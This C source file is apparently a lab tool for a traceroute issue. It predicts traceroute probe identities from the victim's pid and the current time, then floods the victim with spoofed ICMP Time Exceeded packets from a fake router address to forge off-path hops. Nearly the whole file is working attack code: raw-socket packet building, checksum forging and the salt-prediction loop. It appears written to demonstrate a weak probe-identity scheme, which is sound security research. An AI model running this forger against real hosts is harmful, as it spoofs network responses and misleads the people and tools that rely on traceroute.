/*
 * guesser: an off-path forger for the lab (issue 14.1). It never sees the
 * victim's probes; it predicts them, as an attacker who knows the
 * victim's pid and the time could have done when traceroute derived its
 * probe identity from getpid() * 2654435761 ^ time(NULL): source port
 * 32768 + (salt >> 8) % 28000, destination port 33434, UDP checksum
 * 0x0100 + n for probe n. Every 20 ms it sends Time Exceeded messages,
 * from a spoofed router address, quoting those predicted probes for the
 * salts of the last and next 2 seconds.
 *
 * usage: guesser -t VICTIM -d DST -p PID [-P SPORT] [-c] [-T SECONDS]
 *            [-s SRC]
 *   -t, -d  the victim's address and its trace's destination (IPv4)
 *   -p      the victim's pid (for the predicted salt)
 *   -P      a known source port instead of the prediction (a control)
 *   -c      quote --classic probes: destination port 33434 + n, any
 *           checksum (with -P: everything a forger needs, a control)
 *   -T      seconds to run (default 5)
 *   -s      the spoofed router (default 198.18.77.1)
 * Output: "guesser: ready", then at the end "sent N".
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NPROBES	90

static uint16_t
sum16(const uint8_t *p, size_t n)
{
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

/* IPv4 header of 20 bytes at p. */
static void
ip4(uint8_t *p, uint16_t len, uint8_t ttl, uint8_t proto,
    struct in_addr src, struct in_addr dst)
{
	memset(p, 0, 20);
	p[0] = 0x45;
	put16(p + 2, len);
	p[8] = ttl;
	p[9] = proto;
	memcpy(p + 12, &src, 4);
	memcpy(p + 16, &dst, 4);
	put16(p + 10, sum16(p, 20));
}

/* A Time Exceeded from router to victim quoting a UDP probe. */
static size_t
forge(uint8_t *pkt, struct in_addr router, struct in_addr victim,
    struct in_addr dst, uint16_t sport, uint16_t dport, uint16_t cks)
{
	uint8_t *icmp = pkt + 20, *q = icmp + 8;
	size_t qlen = 20 + 8 + 32, len = 20 + 8 + qlen;

	ip4(q, (uint16_t)qlen, 1, IPPROTO_UDP, victim, dst);
	put16(q + 20, sport);
	put16(q + 22, dport);
	put16(q + 24, 40);
	put16(q + 26, cks);
	for (size_t i = 0; i < 32; i++)
		q[28 + i] = (uint8_t)(0x40 + i);
	memset(icmp, 0, 8);
	icmp[0] = 11;
	put16(icmp + 2, sum16(icmp, 8 + qlen));
	ip4(pkt, (uint16_t)len, 64, IPPROTO_ICMP, router, victim);
	return len;
}

int
main(int argc, char *argv[])
{
	struct in_addr victim = { 0 }, dst = { 0 }, router;
	struct sockaddr_in to;
	uint8_t pkt[128];
	unsigned long pid = 0, sent = 0;
	long secs = 5, fixed = -1;
	int c, fd, classic = 0;
	time_t end;

	inet_pton(AF_INET, "198.18.77.1", &router);
	while ((c = getopt(argc, argv, "t:d:p:P:cT:s:")) != -1) {
		switch (c) {
		case 't': inet_pton(AF_INET, optarg, &victim); break;
		case 'd': inet_pton(AF_INET, optarg, &dst); break;
		case 'p': pid = strtoul(optarg, NULL, 10); break;
		case 'P': fixed = strtol(optarg, NULL, 10); break;
		case 'c': classic = 1; break;
		case 'T': secs = strtol(optarg, NULL, 10); break;
		case 's': inet_pton(AF_INET, optarg, &router); break;
		default:
			fprintf(stderr, "usage: guesser -t VICTIM -d DST -p PID "
			    "[-P SPORT] [-c] [-T SECONDS] [-s SRC]\n");
			return 2;
		}
	}
	if (victim.s_addr == 0 || dst.s_addr == 0 || (pid == 0 && fixed < 0))
		return 2;
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1) {
		perror("guesser: socket");
		return 1;
	}
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr = victim;
	printf("guesser: ready\n");
	fflush(stdout);
	end = time(NULL) + secs;
	while (time(NULL) < end) {
		for (long dt = -2; dt <= 2; dt++) {
			uint32_t salt = (uint32_t)pid * 2654435761u ^
			    (uint32_t)(time(NULL) + dt);
			uint16_t sp = fixed >= 0 ? (uint16_t)fixed :
			    (uint16_t)(32768 + (salt >> 8) % 28000);

			for (unsigned n = 0; n < NPROBES; n++) {
				size_t len = forge(pkt, router, victim, dst, sp,
				    (uint16_t)(classic ? 33434 + n : 33434),
				    (uint16_t)(0x0100 + n));

				if (sendto(fd, pkt, len, 0,
				    (struct sockaddr *)&to, sizeof(to)) > 0)
					sent++;
			}
			if (fixed >= 0)
				break;
		}
		usleep(20000);
	}
	printf("sent %lu\n", sent);
	return 0;
}
